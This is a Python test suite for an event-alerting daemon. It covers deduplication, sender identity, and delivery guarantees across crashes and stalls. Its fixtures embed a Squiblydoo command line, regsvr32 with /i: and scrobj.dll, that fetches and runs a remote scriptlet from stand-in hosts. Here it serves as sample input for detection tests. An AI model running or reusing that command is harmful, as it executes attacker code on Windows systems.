"""What was acknowledged is not lost, and what is sent again is known again."""
import contextlib
import collections
import http.client
import json
import os
import random
import shutil
import socket
import struct
import tempfile
import threading
import time
import zlib

from harness import DEADLINE, LONG, Case, eventually, main


def event(n, host="ws-1.corp.example", command="regsvr32 /s /u /i:http://files.example.net/{}.sct scrobj.dll"):
    """Record number `n` of a computer, with all that tells it from others."""
    return json.dumps({"EventID": 4688, "Channel": "Security", "Hostname": host, "RecordNumber": n,
                       "SourceName": "Microsoft-Windows-Security-Auditing", "SourceModuleType": "im_msvistalog",
                       "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
                       "CommandLine": command.format(n)}).encode() + b"\n"


def harmless(n):
    return event(n, command="regsvr32 /s C:\\Windows\\System32\\wshom.ocx")


class Duplicates(Case):
    def start(self, window):
        up = self.upstream()
        return up, self.daemon(f"deduplicate:\n  window: {window}\n", upstream=up)

    def test_events_sent_again_are_counted_and_raise_no_second_alert(self):
        up, d = self.start(1000)
        first = b"".join(event(n) for n in range(40)) + b"".join(harmless(n) for n in range(100, 160))
        d.send(first)
        c = d.wait_received(100)
        alerted = c["alerted"]
        self.assertGreaterEqual(alerted, 40)
        self.assertEqual(c["dropped"], 0)
        d.send(first[: len(first) // 2].rpartition(b"\n")[0] + b"\n")  # the first of them, on another connection
        again = first[: len(first) // 2].count(b"\n")
        c = d.wait_received(100 + again)
        self.assertEqual((c["alerted"], c["dropped"], c["dropped_duplicate"]), (alerted, again, again))
        d.send(event(1000))
        c = self.assert_stops(d, 101 + again)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (alerted + 1, again))
        eventually("all alerts", lambda: len(up.lines) >= c["alerts"])
        self.assertEqual(len(up.lines), c["alerts"])
        self.assertEqual(len({a["process"]["command_line"] for a in up.alerts() if "scrobj" in
                              a["process"]["command_line"]}), 41)

    def test_who_claims_the_record_ids_of_others_hides_nothing(self):
        up, d = self.start(1000)
        d.send(b"".join(harmless(n) for n in range(20)))
        d.wait_received(20)
        d.send(b"".join(event(n) for n in range(20)))  # the same record ids, but now a rule matches
        c = d.wait_received(40)
        self.assertEqual(c["dropped"], 0)
        d.send(b"".join(event(n, command="regsvr32 /i:https://elsewhere.example.net/{} scrobj.dll")
                        for n in range(20)))  # and the same rule, for another command line
        c = self.assert_stops(d, 60)
        self.assertEqual(c["dropped"], 0)
        self.assertGreaterEqual(c["alerted"], 40)

    def test_events_of_one_record_are_told_apart(self):
        up, d = self.start(1000)
        both = b"[" + event(1).strip() + b"," + event(2).strip() + b"]\n"
        d.send(event(1))
        d.wait_received(1)
        d.send(both)
        c = d.wait_received(3)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (2, 1))
        d.send(both)
        c = self.assert_stops(d, 5)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (2, 3))

    def test_the_window_is_a_number_of_events_and_off_by_default(self):
        up, d = self.start(10)
        d.send(b"".join(event(n) for n in range(11)))
        d.wait_received(11)
        d.send(event(10) + event(0))  # the newest is known, the oldest was forgotten
        c = self.assert_stops(d, 13)
        self.assertEqual((c["alerted"], c["dropped_duplicate"]), (12, 1))
        up = self.upstream()
        d = self.daemon(upstream=up)
        d.send(event(1) + event(1))
        self.assertEqual(self.assert_stops(d, 2)["alerted"], 2)


class Identity(Case):
    """Alerts and dead letters name who sent a record, as far as it was proved."""

    def setUp(self):
        self.up = self.upstream()
        self.folder = tempfile.mkdtemp(prefix="squiblyd-e2e-")
        self.addCleanup(shutil.rmtree, self.folder, True)
        self.dead = os.path.join(self.folder, "dead.ndjson")

    def start(self, text):
        return self.daemon(text + f"dead_letter:\n  path: {self.dead}\n", inputs=False, upstream=self.up)

    def letters(self):
        eventually("dead letters", lambda: os.path.exists(self.dead) and os.path.getsize(self.dead))
        with open(self.dead, "rb") as f:
            return [json.loads(line) for line in f]

    def test_a_token_has_a_name(self):
        tokens = os.path.join(self.folder, "tokens")
        with open(tokens, "w", encoding="ascii") as f:
            f.write("site-7:sesame-sesame-sesame\n")
        os.chmod(tokens, 0o600)
        d = self.start(f"inputs:\n  - type: http\n    listen: 127.0.0.1:0\n    tokens_file: {tokens}\n")
        connection = http.client.HTTPConnection("127.0.0.1", d.port("http"), timeout=DEADLINE)
        for token, status in (("sesame-sesame-sesame", 200), ("wrong", 401)):
            connection.request("POST", "/events", event(1) + b"broken\n", {"Authorization": f"Bearer {token}"})
            answer = connection.getresponse()
            answer.read()
            self.assertEqual(answer.status, status)
        connection.close()
        self.assert_stops(d, 2)
        self.assertEqual({a["client"]["user"]["name"] for a in self.up.alerts()}, {"site-7"})
        self.assertEqual([a["client"]["user"]["name"] for a in self.letters()], ["site-7"])
        self.assertNotIn("tls", self.up.alerts()[0])

    def test_behind_a_proxy_both_addresses_are_told(self):
        d = self.start("inputs:\n  - type: tcp\n    listen: 127.0.0.1:0\n    proxy_from: [127.0.0.0/8]\n")
        d.send(b"PROXY TCP4 192.0.2.7 192.0.2.1 51234 5170\r\n" + event(1) + b"broken\n")
        d.wait_received(2)
        self.assert_stops(d, 2)
        for said in ([a["squibly"] for a in self.up.alerts()], self.letters()):
            self.assertEqual({a["peer"] for a in said}, {"192.0.2.7:51234"})
            self.assertTrue(all(a["proxy"].startswith("127.0.0.1") for a in said), said)


class Beats:
    """Sends windows as Lumberjack version 2 and waits for each acknowledgement."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=DEADLINE)
        self.pack = False

    def send(self, records):
        """Returns when all are acknowledged; raises OSError when that will never be."""
        frames = b"".join(b"2J" + struct.pack(">II", i, len(r)) + r for i, r in enumerate(records, 1))
        if self.pack:
            packed = zlib.compress(frames, 3)
            frames = b"2C" + struct.pack(">I", len(packed)) + packed
        self.pack = not self.pack
        self.socket.sendall(b"2W" + struct.pack(">I", len(records)) + frames)
        done = 0
        while done < len(records):
            ack = b""
            while len(ack) < 6:
                more = self.socket.recv(6 - len(ack))
                if not more:
                    raise ConnectionError("closed")
                ack += more
            kind, done = struct.unpack(">2sI", ack)
            if kind != b"2A" or done > len(records):
                raise AssertionError(f"no acknowledgement of {len(records)} events: {ack!r}")

    def close(self):
        self.socket.close()


class Http:
    """Posts lines and waits for each answer."""

    def __init__(self, port):
        self.connection = http.client.HTTPConnection("127.0.0.1", port, timeout=DEADLINE)

    def send(self, records):
        self.connection.request("POST", "/events", b"\n".join(records) + b"\n")
        answer = self.connection.getresponse()
        answer.read()
        if answer.status != 200:
            raise ConnectionError(f"status {answer.status}")

    def close(self):
        self.connection.close()


class Sender(threading.Thread):
    """Sends one window after another, the same again until it is acknowledged."""
    WINDOW = 40  # records at most

    def __init__(self, kind, port, first, make):
        super().__init__(daemon=True)
        self.kind, self.port, self.next, self.make = kind, port, first, make
        self.acknowledged, self.answers, self.error = [], 0, None
        self.running = True
        self.dice = random.Random(first)

    def run(self):
        try:
            self._run()
        except Exception as e:  # told by the test, which runs on another thread
            self.error = e

    def _run(self):
        self.connection = None
        while self.running:
            numbers = list(range(self.next, self.next + self.dice.randint(1, self.WINDOW)))
            self.next = numbers[-1] + 1
            self._deliver(numbers)
        self.connection.close()

    def _deliver(self, numbers):
        records = [f"broken {n}".encode() if n % 10 == 9 else self.make(n).strip() for n in numbers]
        while True:
            try:
                if not self.connection:
                    self.connection = self.kind(self.port)
                self.connection.send(records)
                self.acknowledged += numbers
                self.answers += 1
                return
            except (OSError, http.client.HTTPException):
                if self.connection:
                    self.connection.close()
                self.connection = None
                time.sleep(0.02)


class Repeated:
    """What came to `up` more than once. Each time it had the id that it had first."""

    def __init__(self, case, up, number):
        times, ids = collections.Counter(), {}
        for a in up.whole_alerts():
            what = number(a), a.get("rule", {}).get("id")
            times[what] += 1
            ids.setdefault(what, set()).add(a["event"]["id"] if "event" in a else a.get("squibly", {}).get("event_id"))
        case.assertEqual({len(of) for of in ids.values()}, {1})
        self.n = sum(times.values()) - len(times)
        self.of_a_record = max(collections.Counter(n for n, _ in times).values())  # messages


class Kill(Case):
    ROUNDS = 40 if LONG else 5
    OPTIONS = ""
    MAKE = staticmethod(event)

    @staticmethod
    def number(a):
        return int(a["winlog"]["record_id"])

    def start(self, kind, port, up, **named):
        dead = os.path.join(self.folder, "dead.ndjson")
        return self.daemon(f"inputs:\n  - type: {kind}\n    listen: 127.0.0.1:{port}\n"
                           f"outputs:\n  - type: file\n    path: {self.folder}/alerts.ndjson\n{self.OPTIONS}"
                           f"  - type: tcp\n    address: 127.0.0.1:{up.port}\n"
                           f"    retry_min: 10ms\n    retry_max: 50ms\n{self.OPTIONS}"
                           f"dead_letter:\n  path: {dead}\n", inputs=False, **named)

    def numbers_in(self, name, number):
        """The numbers in a file that may hold lines torn by a kill."""
        found = set()
        with open(os.path.join(self.folder, name), "rb") as f:
            for line in f:
                try:
                    found.add(number(json.loads(line)))
                except ValueError:
                    continue
        return found

    def check(self, kind, client):
        up = self.upstream()
        up.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read is not taken either
        d = self.daemon(f"inputs:\n  - type: {kind}\n    listen: 127.0.0.1:0\n", inputs=False)
        port, self.folder = d.port(kind), d.folder
        d.kill()
        dice = random.Random(kind)
        senders = [Sender(client, port, 1_000_000 * i, self.MAKE) for i in (1, 2, 3)]
        for sender in senders:
            sender.start()
        for _ in range(self.ROUNDS):
            d = self.start(kind, port, up, folder=self.folder)
            d.port(kind)
            before = [s.answers for s in senders]
            eventually("answers", lambda before=before: all(
                s.answers > n + 2 or s.error for s, n in zip(senders, before)))
            up.stalled = dice.random() < 0.6  # so that there is something in the queue
            time.sleep(dice.random() * 0.3)
            d.kill()
            up.stalled = False
        d = self.start(kind, port, up, folder=self.folder)
        for sender in senders:
            sender.running = False
        for sender in senders:
            sender.join(DEADLINE)
            self.assertIsNone(sender.error)
            self.assertFalse(sender.is_alive())
        self.assert_stops(d)
        sent = {n for s in senders for n in s.acknowledged}
        events, broken = {n for n in sent if n % 10 != 9}, {n for n in sent if n % 10 == 9}
        self.assertGreater(len(events), 100)
        self.assertEqual(events - self.numbers_in("alerts.ndjson", self.number), set())
        eventually("all alerts", lambda: not events - {self.number(a) for a in up.whole_alerts()})
        again = Repeated(self, up, self.number)
        self.assertLessEqual(again.n, self.ROUNDS * len(senders) * Sender.WINDOW * again.of_a_record)
        self.assertEqual(broken - self.numbers_in("dead.ndjson", lambda a: int(a["record"].split()[1])), set())

    def test_what_was_acknowledged_to_a_beat_survives_kill_9(self):
        self.check("beats", Beats)

    def test_what_was_answered_over_http_survives_kill_9(self):
        self.check("http", Http)


class KillForwarding(Kill):
    """The same of records that go through, whether a rule matches them or not."""
    OPTIONS = "    forward: all\n"

    @staticmethod
    def MAKE(n):
        quiet = event(n).replace(b"regsvr32", b"notepad").replace(b"scrobj", b"a").replace(b"/i:", b"")
        return event(n) if n % 3 else quiet

    @staticmethod
    def number(a):
        return a["RecordNumber"]


class Unanswered(Case):
    """The upstream takes nothing for a while, and a sender waits."""

    def start(self, kind, more="", port=0, **named):
        d = self.daemon(f"inputs:\n  - type: {kind}\n    listen: 127.0.0.1:{port}\n"
                        f"outputs:\n  - type: tcp\n    address: 127.0.0.1:{self.up.port}\n" + more,
                        inputs=False, **named)
        return d, d.port(kind)

    def setUp(self):
        self.up = self.upstream(stalled=True)
        self.up.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.records = [event(n).strip() for n in range(100)]
        self.answers = []

    def send(self, client, port):
        """Send all in one window, on a thread of its own; what becomes of it is in self.answers."""
        connection = client(port)

        def run():
            try:
                connection.send(self.records)
                self.answers.append("acknowledged")
            except (OSError, http.client.HTTPException):
                self.answers.append("refused")

        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        self.addCleanup(thread.join, DEADLINE)
        return connection

    def commands(self):
        return sorted({a["process"]["command_line"] for a in self.up.alerts()})

    def check_stop(self, kind, client):
        d, port = self.start(kind, "shutdown_deadline: 1s\n")
        connection = self.send(client, port)
        d.wait_received(100)
        time.sleep(0.3)
        self.assertEqual(self.answers, [])
        self.assertEqual(d.counters()["unanswered"], 100)
        self.assert_stops(d, 100)  # it cannot deliver in time, and says so to nobody but its log
        eventually("an end", lambda: self.answers)
        self.assertEqual(self.answers, ["refused"])
        connection.close()
        self.up.stalled = False
        d, port = self.start(kind, port=port, folder=d.folder)
        connection = self.send(client, port)
        eventually("the answer", lambda: len(self.answers) == 2)
        self.assertEqual(self.answers[1], "acknowledged")
        connection.close()
        self.assert_stops(d, 100)
        self.assertEqual(len(self.commands()), 100)

    def test_a_beat_whose_alerts_are_dropped_at_the_deadline_is_not_acknowledged(self):
        self.check_stop("beats", Beats)

    def test_nor_is_a_request(self):
        self.check_stop("http", Http)

    def test_a_full_disk_under_the_dead_letters_holds_up_nobody(self):
        self.up.stalled = False
        d, port = self.start("beats", "dead_letter:\n  path: /dev/full\nshutdown_deadline: 1s\n")
        self.records = [event(1).strip(), b"broken", event(2).strip()]
        connection = self.send(Beats, port)
        c = d.wait_received(3)
        self.assertEqual((c["alerted"], c["malformed"]), (2, 1))
        d.wait_said("file /dev/full: .*retrying")
        eventually("the answer", lambda: self.answers == ["acknowledged"])
        connection.close()
        self.assert_stops(d, 3)

    def test_dead_letters_that_take_nothing_hold_up_nobody_for_long(self):
        """A FIFO that is full stands for a disk that does not answer."""
        self.up.stalled = False
        path = os.path.join(self.scratch(), "dead.fifo")
        os.mkfifo(path)
        fifo = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        self.addCleanup(os.close, fifo)
        filled = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                filled += os.write(fifo, b"\n" * 4096)
        d, port = self.start("beats", f"dead_letter:\n  path: {path}\n  stall_timeout: 1s\n")
        self.records = [event(1).strip(), b"broken", event(2).strip()]
        connection = self.send(Beats, port)
        d.wait_said("dead.fifo: it takes nothing; waiting")
        eventually("the answer", lambda: self.answers == ["acknowledged"])
        connection.close()
        while filled:
            filled -= len(os.read(fifo, filled))
        d.wait_said("dead.fifo: writing works again")
        self.assertEqual(json.loads(os.read(fifo, 65536))["record"], "broken")
        self.assert_stops(d, 3)

    def test_dead_letters_to_a_fifo_without_a_reader_are_an_error_at_the_start(self):
        path = os.path.join(self.scratch(), "dead.fifo")
        os.mkfifo(path)
        d = self.daemon(f"dead_letter:\n  path: {path}\n")
        self.assertEqual(d.wait(), 1)
        self.assertTrue(d.said("cannot start: dead_letter: .*a FIFO that nobody reads"), d.err)

    def test_a_window_that_is_sent_again_while_the_first_waits_is_acknowledged_and_raises_nothing_twice(self):
        d, port = self.start("beats", "deduplicate:\n  window: 1000\n")
        first = self.send(Beats, port)
        d.wait_received(100)
        first.socket.shutdown(socket.SHUT_RDWR)  # the sender's patience is at its end
        eventually("an end", lambda: self.answers == ["refused"])
        second = self.send(Beats, port)
        c = d.wait_received(200)
        self.assertEqual(c["dropped_duplicate"], 100)
        time.sleep(0.3)
        self.assertEqual(self.answers, ["refused"])  # the alerts of the first have not gone out yet
        self.up.stalled = False
        eventually("the answer", lambda: len(self.answers) == 2)
        self.assertEqual(self.answers[1], "acknowledged")
        eventually("the alerts", lambda: len(self.commands()) == 100)
        first.close()
        second.close()
        c = self.assert_stops(d, 200)
        self.assertEqual(len(self.up.lines), c["alerts"])


if __name__ == "__main__":
    main()
